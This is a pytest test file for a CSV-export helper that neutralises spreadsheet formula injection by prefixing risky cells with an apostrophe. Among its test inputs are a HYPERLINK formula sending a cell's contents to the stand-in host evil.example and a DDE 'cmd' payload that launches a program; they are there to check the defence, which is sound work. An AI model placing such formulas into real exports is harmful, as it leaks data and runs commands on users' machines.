"""CSV cells that a spreadsheet would run as formulas get a leading apostrophe."""

from __future__ import annotations

import csv
import doctest
import io

import pytest

from meute.engine import spreadsheet
from meute.engine.spreadsheet import csv_writer, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A2,"x")',
        "+33 2 47 00 00 00",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
    ],
)
def test_text_starting_like_a_formula_gets_an_apostrophe(text: str) -> None:
    # A carriage return is written as a line feed (meute.engine.controls).
    assert safe_cell(text) == "'" + text.replace("\r", "\n")


@pytest.mark.parametrize(
    "value", ["Claire Moreau", "", "a=b", "Dupont-Durand", "02 47 00 00 00", 42, -3, None]
)
def test_anything_else_is_left_as_it_is(value: object) -> None:
    assert safe_cell(value) == value


def test_the_writer_neutralises_every_cell_of_every_row() -> None:
    out = io.StringIO()
    writer = csv_writer(out, delimiter=";")
    writer.writerow(["=1+1", "ok"])
    writer.writerows([["@x", "-y"], ["z", "+w"]])
    rows = list(csv.reader(io.StringIO(out.getvalue()), delimiter=";"))
    assert rows == [["'=1+1", "ok"], ["'@x", "'-y"], ["z", "'+w"]]


def test_the_documented_examples_hold() -> None:
    assert doctest.testmod(spreadsheet).failed == 0


def test_no_module_writes_csv_without_the_shared_helper() -> None:
    # Every CSV the project writes goes through meute.engine.spreadsheet (one place to get it right).
    from pathlib import Path

    root = Path(spreadsheet.__file__).parent.parent
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "spreadsheet.py"
        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter("))
    ]
    assert offenders == []
